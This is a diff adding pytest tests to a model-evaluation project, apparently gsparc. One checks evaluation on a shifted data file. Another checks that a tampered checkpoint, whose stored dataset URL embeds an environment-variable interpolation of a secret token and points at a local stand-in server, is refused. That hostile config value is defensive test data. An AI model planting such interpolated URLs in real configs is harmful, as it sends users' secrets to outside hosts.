@@ -5,10 +5,15 @@ from __future__ import annotations
 import json
 import re
 import sys
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
+from typing import ClassVar
 
+import numpy as np
 import pytest
+import yaml
 from campaigns import channels, compose
-from doors import knock
+from doors import assert_refused, knock
 
 from gsparc.commands.evaluate import evaluate_files
 from gsparc.commands.listing import COMMANDS
@@ -87,3 +92,87 @@ def test_folds_need_their_checkpoints(trained, tmp_path):
     checkpoint.save(fold, method, stored.config, {"fold": 4})
     with pytest.raises(ValueError, match="fold 4 was trained, split=random has 1 folds"):
         evaluate_files([fold])
+
+
+def test_another_file_was_tested_on_a_fifth_beside_baselines_that_had_learned_its_rest(tmp_path, caplog):
+    """The baselines knew the new file, the model did not."""
+    (tmp_path / "later").mkdir()
+    file, later = channels(tmp_path / "own.npz"), tmp_path / "later" / "own.npz"
+    config = compose("dataset=own", f"dataset.file={file}", "model=nearest", "baselines=[]", "logger=none")
+    model = train(config, tmp_path / "run")[1].checkpoints[0]
+    with np.load(file) as stored:
+        moved = stored["rx_position"] + [0.02, 0.01, 0]
+        np.savez(later, **{**stored, "rx_position": moved, "csi": np.roll(stored["csi"], 1, axis=0)})
+    found, data, split = evaluate_files(
+        [model], {"file": str(later)}, {"name": None}, cache=tmp_path / "cache"
+    )
+    assert (
+        split.name == "whole" and found.facts["test/samples"] == found.facts["split/test"] == len(data) == 80
+    )
+    assert "baseline/nearest/nmse" not in found.facts  # as asked
+    for _ in range(2):  # fitted, then from the cache
+        found, *_ = evaluate_files([model], {"file": str(later)}, baselines=None, cache=tmp_path / "cache")
+        assert found.facts["test/nmse"] == found.facts["baseline/nearest/nmse"] > 0.5
+        assert found.facts["split/without_baselines"] is None
+    same, *_ = evaluate_files([model], {"file": str(file)}, baselines=["nearest"], cache=tmp_path / "cache")
+    assert same.facts["split/name"] == "random" and same.facts["split/foreign"] is None
+    asked, _, split = evaluate_files([model], {"file": str(later)}, {"name": "corner"}, baselines=["nearest"])
+    assert split.name == "corner" and asked.facts["test/nmse"] == asked.facts["baseline/nearest/nmse"]
+    with pytest.raises(ValueError, match="eval_on=val: the split has no val rows"):
+        evaluate_files([model], {"file": str(later)}, eval_on="val")
+    file.unlink()
+    found, *_ = evaluate_files([model], {"file": str(later)}, baselines=None)
+    assert (
+        not [name for name in found.facts if name.startswith("baseline/")] and found.facts["test/nmse"] > 0.5
+    )
+    assert "no baselines: the file that the model was trained on is gone, or another" in remarks(found.facts)
+
+
+class Asked(BaseHTTPRequestHandler):
+    """Notes what it is asked for."""
+
+    paths: ClassVar[list[str]] = []
+
+    def do_GET(self):
+        self.paths.append(self.path)
+        self.send_error(404)
+
+    do_HEAD = do_GET
+
+    def log_message(self, *unused):
+        pass
+
+
+@pytest.fixture
+def stranger():
+    """`(address, paths)` of a server that is somebody else's."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Asked)
+    Asked.paths.clear()
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", Asked.paths
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.parametrize(
+    ("secret", "refused"),
+    [("${oc.env:GSPARC_TOKEN}", r"has \$\{\.\.\.\}"), ("plain", r"dataset\.file is an address, http.*; say")],
+)
+def test_a_stranger_s_checkpoint_sent_secrets_away(trained, tmp_path, monkeypatch, stranger, secret, refused):
+    """A stored `dataset.file=http://HOST/${oc.env:NAME}.parquet` was asked for, twice."""
+    monkeypatch.setenv("GSPARC_TOKEN", "very-secret")
+    address, asked = stranger
+    method, stored = loading.load(trained)
+    config = yaml.safe_load(stored.config)
+    config["dataset"] |= {"file": f"{address}/{secret}.parquet", "cell_m": 1.0}
+    bad = tmp_path / "bad.ckpt"
+    checkpoint.save(bad, method, yaml.safe_dump(config), dict(stored.extra))
+    for command, more in (("evaluate", []), ("map", ["step_m=1"]), ("calibrate", []), ("locate", [])):
+        given = [f"ckpt={bad}", f"hydra.run.dir={tmp_path / command}", "threads=1", *more]
+        assert_refused(knock(COMMANDS[command].run, command, given), refused)
+    if secret == "plain":  # what the user names is asked
+        with pytest.raises(ValueError, match="damaged or not a Parquet file"):
+            evaluate_files([bad], {"file": f"{address}/mine.parquet"})
+        assert set(asked) == {"/mine.parquet"}
+    else:
+        assert not asked
